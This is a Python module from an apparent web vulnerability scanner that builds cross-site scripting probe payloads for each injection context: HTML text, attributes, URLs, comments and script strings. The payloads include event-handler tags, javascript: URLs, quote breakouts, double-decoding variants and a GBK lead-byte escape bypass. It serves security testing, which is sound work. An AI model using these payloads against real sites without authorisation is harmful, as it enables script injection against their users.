"""What may run a script from a given place of a page, and what it needs to come through unescaped."""

from collections.abc import Iterator
from dataclasses import dataclass

from scanners.web.probing.markup import Place, Spot
from scanners.web.probing.script_text import Kind

TESTED = "'\"<>\\`"
"""The signs whose fate is looked at first."""
_TAGS = (
    "<img src=x onerror={m}()>",
    "<sVg/oNload={m}()>",
    "<deTails/open/onToggle={m}()//",
    "<iFrame/src=jAvaScript:{m}()>",
)
_LEAD_BYTE = b"\xbf"
"""Swallows a backslash where the page is read as GBK after it was escaped by bytes."""


@dataclass(frozen=True, slots=True)
class Vector:
    """A payload; `{m}` in it stands for the mark."""

    payload: str
    needs: str = ""
    """Signs of TESTED without which it cannot work."""
    lead: bytes = b""

    def write(self, mark: str) -> str | bytes:
        """The payload to send."""
        text = self.payload.replace("{m}", mark)
        return self.lead + text.encode() if self.lead else text


def vectors_for(place: Place, survived: str | None) -> Iterator[Vector]:
    """Those that fit, the most telling first. `survived` holds the signs of TESTED that came through; None: unknown."""
    for vector in _vectors(place):
        if survived is None or all(sign in survived for sign in vector.needs):
            yield vector


def _vectors(place: Place) -> Iterator[Vector]:
    match place.spot:
        case Spot.TEXT:
            yield from _tags("")
            # What is decoded once more behind the filter.
            yield Vector("%3Cimg src=x onerror={m}()%3E")
            yield Vector("&lt;img src=x onerror={m}()&gt;")
        case Spot.RAW:
            yield from _tags(f"</{place.detail}>")
        case Spot.COMMENT:
            yield from _tags("-->")
        case Spot.URL:
            yield Vector("javascript:{m}()")
            yield Vector("jAvA\tscRipt:{m}()")
        case Spot.ATTRIBUTE:
            yield from _attribute(place.detail)
        case Spot.SCRIPT:
            yield from _script(place.detail, in_attribute=False)
            yield from _tags("</script>")
        case Spot.HANDLER:
            yield from _script(place.detail, in_attribute=True)


def _tags(before: str) -> Iterator[Vector]:
    for tag in _TAGS:
        needs = "<>" if tag.endswith(">") or before.endswith(">") else "<"
        yield Vector(before + tag, needs)


def _attribute(quote: str) -> Iterator[Vector]:
    if quote:
        yield Vector(f"{quote} autofocus onfocus={{m}}() x={quote}", quote)
        yield Vector(f"{quote}/autofocus/oNfocus={{m}}()/x={quote}", quote)
    else:
        yield Vector("x autofocus onfocus={m}() x=x")
    yield from (Vector(vector.payload, vector.needs + quote) for vector in _tags(f"{quote}>"))


def _script(kind: str, in_attribute: bool) -> Iterator[Vector]:
    if kind in (Kind.DOUBLE, Kind.SINGLE):
        # Inside an attribute the browser decodes entities before it reads the script: escaping does not matter.
        quote = "" if in_attribute else kind
        for tail in (f"{kind}-{{m}}()-{kind}", f"{kind});{{m}}();//", f"{kind};{{m}}();//"):
            yield Vector(tail, quote)
        yield Vector(f"\\{kind};{{m}}();//", quote)
        yield Vector(f"{kind};{{m}}();//", quote, _LEAD_BYTE)
    elif kind == Kind.TEMPLATE:
        yield Vector("${{m}()}")
    elif kind == Kind.COMMENT:
        yield Vector("*/{m}();/*")
    elif kind == Kind.LINE_COMMENT:
        yield Vector("\n{m}();//")
    else:
        yield Vector("1-{m}()")
        yield Vector("1;{m}();//")
        yield Vector("{m}()")
